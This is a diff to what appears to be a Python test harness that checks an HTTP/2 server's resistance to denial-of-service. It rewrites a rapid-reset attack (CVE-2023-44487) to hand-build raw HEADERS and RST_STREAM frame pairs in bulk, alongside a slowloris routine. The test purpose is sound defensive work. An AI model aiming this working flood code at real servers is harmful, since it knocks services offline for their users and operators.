@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import json
 import statistics
+import struct
 import sys
 import threading
 import time
@@ -26,6 +27,7 @@ import h2.events
 import h2.exceptions
 import trio
 from helpers import ServeProcess, parse_samples, sample_value
+from hyperframe.frame import Frame, GoAwayFrame, RstStreamFrame
 
 Address = tuple[str, int]
 INGEST = "/ingest"
@@ -242,7 +244,11 @@ class Outcome:
     goaway_last_stream: int | None = None
     resets: Counter[int] = field(default_factory=Counter)
     statuses: Counter[int] = field(default_factory=Counter)
+    ended: int = 0
+    """Responses complete (their stream ended)."""
     sent_bytes: int = 0
+    took: float = 0.0
+    """Seconds the attack ran."""
 
 
 def _absorb(client: h2.connection.H2Connection, data: bytes, outcome: Outcome) -> None:
@@ -258,6 +264,8 @@ def _absorb(client: h2.connection.H2Connection, data: bytes, outcome: Outcome) -
             outcome.resets[int(event.error_code)] += 1
         elif isinstance(event, h2.events.ResponseReceived):
             outcome.statuses[int(dict(event.headers)[":status"])] += 1  # type: ignore[arg-type]
+        elif isinstance(event, h2.events.StreamEnded):
+            outcome.ended += 1
 
 
 async def _receive(stream: trio.abc.Stream, seconds: float) -> bytes | None:
@@ -368,34 +376,78 @@ async def h2_slowloris(
     return outcome
 
 
+# A request's header block from HPACK's static table and literals without indexing (no
+# dynamic-table state, so it can be repeated on any stream): :method POST, :scheme http,
+# :path /ingest, :authority x.
+_HEADER_BLOCK = b"\x83\x86\x04\x07/ingest\x01\x01x"
+_HEADERS_HEAD = struct.Struct(">I")
+
+
+def rapid_reset_pairs(first_stream: int, count: int) -> bytes:
+    """``count`` HEADERS + RST_STREAM(CANCEL) pairs from ``first_stream`` on, as raw frames
+    (built without h2: an attacker does not pay for a state machine)."""
+    headers = (
+        len(_HEADER_BLOCK).to_bytes(3, "big") + b"\x01\x04"  # HEADERS, END_HEADERS
+    )
+    reset = b"\x00\x00\x04\x03\x00"  # RST_STREAM, 4 bytes
+    cancel = b"\x00\x00\x00\x08"
+    parts = []
+    for stream_id in range(first_stream, first_stream + 2 * count, 2):
+        sid = _HEADERS_HEAD.pack(stream_id)
+        parts += (headers, sid, _HEADER_BLOCK, reset, sid, cancel)
+    return b"".join(parts)
+
+
+def split_frames(buffer: bytearray) -> list[Frame]:
+    """The whole frames at the start of ``buffer`` (removed from it), parsed."""
+    frames = []
+    while len(buffer) >= 9:
+        frame, length = Frame.parse_frame_header(memoryview(buffer)[:9])
+        if len(buffer) < 9 + length:
+            break
+        frame.parse_body(memoryview(bytes(buffer[9 : 9 + length])))
+        frames.append(frame)
+        del buffer[: 9 + length]
+    return frames
+
+
 async def h2_rapid_reset(
     address: Address, *, pairs_per_write: int = 500, writes: int = 20
 ) -> Outcome:
     """HEADERS + RST_STREAM pairs, ``pairs_per_write`` in each write (CVE-2023-44487)."""
     outcome = Outcome()
-    client = _h2_client()
+    client = _h2_client()  # for its preface and SETTINGS only
     start = trio.current_time()
-    stream_id = 1
+    received = bytearray()
+    data: bytes | None = b""
+
+    def absorb(data: bytes) -> None:
+        received.extend(data)
+        for frame in split_frames(received):
+            if isinstance(frame, GoAwayFrame):
+                outcome.goaway_code = frame.error_code
+                outcome.goaway_last_stream = frame.last_stream_id
+            elif isinstance(frame, RstStreamFrame):
+                outcome.resets[frame.error_code] += 1
+
     async with await trio.open_tcp_stream(*address) as stream:
-        for _ in range(writes):
-            for _ in range(pairs_per_write):
-                client.send_headers(stream_id, _request_headers())
-                client.reset_stream(stream_id)
-                stream_id += 2
+        preface = client.data_to_send()
+        for index in range(writes):
+            first = 1 + 2 * pairs_per_write * index
             try:
-                await stream.send_all(client.data_to_send())
+                await stream.send_all(preface + rapid_reset_pairs(first, pairs_per_write))
             except (trio.BrokenResourceError, OSError):
                 data = None
                 break
+            preface = b""
             data = await _receive(stream, 0.001)
             if data:
-                _absorb(client, data, outcome)
+                absorb(data)
             if data is None or outcome.goaway_code is not None:
                 break
         else:
-            data = b""
             while outcome.goaway_code is None and (data := await _receive(stream, 1.0)):
-                _absorb(client, data, outcome)
+                absorb(data)
         if outcome.goaway_code is not None or data is None:
             outcome.cut_after = trio.current_time() - start
     return outcome
@@ -415,17 +467,18 @@ async def h2_sequential(address: Address, count: int, *, patience: float = 5.0) 
             client.send_headers(stream_id, _request_headers(len(payload)))
             client.send_data(stream_id, payload, end_stream=True)
             await stream.send_all(client.data_to_send())
-            answered = sum(outcome.statuses.values())
+            answered = outcome.ended
             with trio.move_on_after(patience):
-                while sum(outcome.statuses.values()) == answered:
+                while outcome.ended == answered:
                     data = await _receive(stream, patience)
                     if not data:
                         break
                     _absorb(client, data, outcome)
                     await stream.send_all(client.data_to_send())
-            if sum(outcome.statuses.values()) == answered:
+            if outcome.ended == answered:
                 outcome.cut_after = trio.current_time() - start
                 break
+    outcome.took = trio.current_time() - start
     return outcome
 
 
